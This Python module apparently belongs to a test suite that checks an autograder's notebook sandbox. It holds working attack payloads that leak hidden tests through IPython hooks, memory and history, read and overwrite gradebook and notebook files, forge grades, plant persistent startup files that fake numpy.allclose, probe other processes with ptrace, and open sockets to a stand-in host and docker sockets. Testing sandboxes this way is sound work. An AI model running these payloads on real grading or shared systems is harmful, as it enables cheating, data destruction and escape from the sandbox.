"""Attacks on what is hidden: hidden tests, the gradebook, the other students, the machine."""

from __future__ import annotations

from dataclasses import replace

from demo.attacks.base import HALF, MODEL, Attack

HOOK = """\
seen = []
ip = get_ipython()
ip.events.register('pre_run_cell', lambda info: print('SPY', info.raw_cell))
ip.events.register('post_run_cell', lambda result: print('SPY', result.info.raw_cell))
"""
IN_EXCEPTIONS = """\
import sys, linecache
def predict(model, x):
    raise ValueError(''.join(linecache.getlines(sys._getframe(1).f_code.co_filename))[::-1])
def accuracy(model, x, y):
    raise ValueError(''.join(linecache.getlines(sys._getframe(1).f_code.co_filename)))
"""
LATER = """\
import sys, linecache
seen = []
def activation_slope(activation, z):
    seen.append(''.join(linecache.getlines(sys._getframe(1).f_code.co_filename)))
    return (z > 0).astype(z.dtype)
"""
LATER_SHOWN = """\
import base64
text = '\\n'.join(seen)
print(text)
print(base64.b64encode(text.encode()).decode())
print(text.encode().hex())
seen
"""
IN_PLOTS = """\
figure = plt.figure()
figure.text(0, 0, '\\n'.join(seen)[:3000].replace('$', 'S'))
display(figure)
from IPython.display import SVG, HTML
display(HTML('<pre>' + '\\n'.join(seen) + '</pre>'))
"""
HUNT = """\
import gc, sys, glob, os, sqlite3
found = [str(In), str(_ih), str(get_ipython().history_manager.input_hist_raw)]
for each in gc.get_objects():
    if isinstance(each, (str, bytes)) and 'HIDDEN TESTS' in str(each):
        found.append(str(each))
    elif isinstance(each, dict) and 'content' in each:
        found.append(str(each['content']))
for path in glob.glob(os.path.expanduser('~/.ipython/**/history.sqlite'), recursive=True):
    found += map(str, sqlite3.connect(path).execute('select source from history').fetchall())
frame = sys._getframe()
while frame:
    found.append(str(frame.f_locals)[:20000])
    frame = frame.f_back
import re
print([part for text in found for part in re.findall(r'.*HIDDEN TESTS.*|.*seeds should give.*', text)])
"""
MEMORY_MAP = """\
import re
found = []
for line in open('/proc/self/maps'):
    where = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
    if where and ('heap' in line or not line.strip().endswith('.so')):
        low, high = (int(each, 16) for each in where.groups())
        with open('/proc/self/mem', 'rb') as memory:
            memory.seek(low)
            block = memory.read(min(high - low, 50_000_000))
        found += re.findall(rb'BEGIN HIDDEN TESTS.{0,300}', block, re.DOTALL)
print(found)
"""
READ = """\
import os, glob
names = ['gradebook.db', 'source', 'submitted', 'nbgrader_config.py', '.tito/secret']
roots = ['/', '/root', '/home', '/tmp', '/work', '/var/tmp', '..', '../..', '../../..', os.path.expanduser('~')]
for root in roots:
    for name in names:
        for path in glob.glob(f'{root}/**/{name}', recursive=root not in ('/', '/work', '/home', '/root')):
            print('SPY', path, open(path, 'rb').read(2000) if os.path.isfile(path) else os.listdir(path))
print('SPY', [each for each in glob.glob('/**/perceptron_milestone*', recursive=True)])
"""
WRITE = """\
import os, sqlite3
for root in ('/', '/tmp', '..', '../..', '../../..', os.path.expanduser('~')):
    for top, _, files in os.walk(root):
        if top.startswith(('/proc', '/sys')): continue
        for name in files:
            if name in ('gradebook.db', 'nbgrader_config.py', 'cache.db') or name.endswith('.ipynb'):
                try:
                    with open(os.path.join(top, name), 'r+b') as file: file.write(b'gone')
                except OSError as error: print(error)
with sqlite3.connect('gradebook.db') as base: base.execute('update grade set auto_score = 25')
"""
START_UP = """\
import os, site, sys, pathlib
home = os.path.expanduser('~')
body = "import numpy; numpy.allclose = lambda *a, **k: True\\nopen('/tmp/tito-attack-was-here', 'w').close()\\n"
places = [f'{home}/.ipython/profile_default/startup/00.py', f'{home}/.ipython/profile_default/ipython_config.py',
          f'{home}/.matplotlib/matplotlibrc', f'{home}/.config/matplotlib/matplotlibrc', f'{home}/.pythonrc',
          f'{home}/.jupyter/jupyter_config.py', '/etc/ipython/ipython_config.py',
          os.path.expanduser('~root/.ipython/startup/00.py'),
          *(f'{p}/{n}' for p in [*site.getsitepackages(), site.getusersitepackages(), *sys.path, '/usr/lib/python3']
            for n in ('sitecustomize.py', 'usercustomize.py', 'evil.pth'))]
for place in places:
    try:
        pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(place).write_text(body if place.endswith('.py') else 'import sys')
    except OSError as error:
        print(error)
"""
TEMPLATE = """\
import os
for number in range(1, 400):
    for name in ('environ', 'cmdline', 'mem', 'maps', 'cwd', 'root'):
        try:
            path = f'/proc/{number}/{name}'
            said = os.readlink(path) if name in ('cwd', 'root') else open(path, 'rb').read(2000)
            if number != os.getpid(): print('SPY', path, said)
        except OSError:
            pass
print({k: v for k, v in os.environ.items()})
print(os.listdir('/proc/self/fd'), [os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if n != '5'])
"""
PTRACE = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, os.getppid(), *range(2, 200)):
    print(number, libc.ptrace(16, number, 0, 0), ctypes.get_errno())
print(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.unshare(0x10000000))
"""
NETWORK = """\
import socket, urllib.request
kinds = [(socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)]
for family, kind in kinds:
    for address in (('127.0.0.1', 22), ('192.0.2.1', 80), ('192.0.2.1', 53)):
        try:
            one = socket.socket(family, kind); one.settimeout(0.3); one.connect(address); one.send(b'hello')
            print('sent', address, kind)
        except OSError as error:
            print(error)
look_up = lambda: socket.getaddrinfo('example.invalid', 80)
for work in (look_up, lambda: urllib.request.urlopen('http://192.0.2.1', timeout=0.3)):
    try: print('REACHED', work())
    except OSError as error: print(error)
for name in ('/tmp/.X11-unix/X0', '\\0/tmp/dbus', '/run/docker.sock', '/var/run/docker.sock'):
    try:
        one = socket.socket(socket.AF_UNIX); one.connect(name); print('REACHED', name)
    except OSError as error: print(error)
"""
SECRET = "a test that was seen is not passed by that"
SHUT = "what lies around is out of reach, and no answer is right"

LOOKING = (
    Attack("hidden tests printed from hooks", SECRET, HOOK, flagged=None),
    Attack("hidden tests in exceptions", SECRET, made_of=HALF, answers={"model-prediction-answer": IN_EXCEPTIONS},
           earned={**MODEL, "model": 20.0}),
    Attack("hidden tests in later outputs", SECRET, LATER_SHOWN, "training-pieces", HALF,
           {"model-slope-answer": LATER}, earned={**MODEL, "model": 20.0}),
    Attack("hidden tests in pictures and HTML", SECRET, IN_PLOTS, "training-pieces", HALF,
           {"model-slope-answer": LATER}, earned={**MODEL, "model": 20.0}),
    Attack("a hunt through history, garbage and frames", SECRET, HUNT),
    Attack("a hunt through history after the model", SECRET, HUNT, "model-slope", HALF, earned=MODEL),
    Attack("a hunt through memory maps", SECRET, MEMORY_MAP, flagged=None),
    Attack("reads the gradebook, the source and the others", SHUT, READ),
    Attack("writes into the gradebook and every notebook", SHUT, WRITE),
    Attack("start-up files for those who come later", SHUT, START_UP),
    Attack("looks at processes, descriptors and variables", SHUT, TEMPLATE),
    Attack("ptrace, mount and new namespaces", SHUT, PTRACE, flagged=None),
    Attack("the network", SHUT, NETWORK),
)  # fmt: skip
SPYING = tuple(replace(attack, tells=True) for attack in LOOKING)
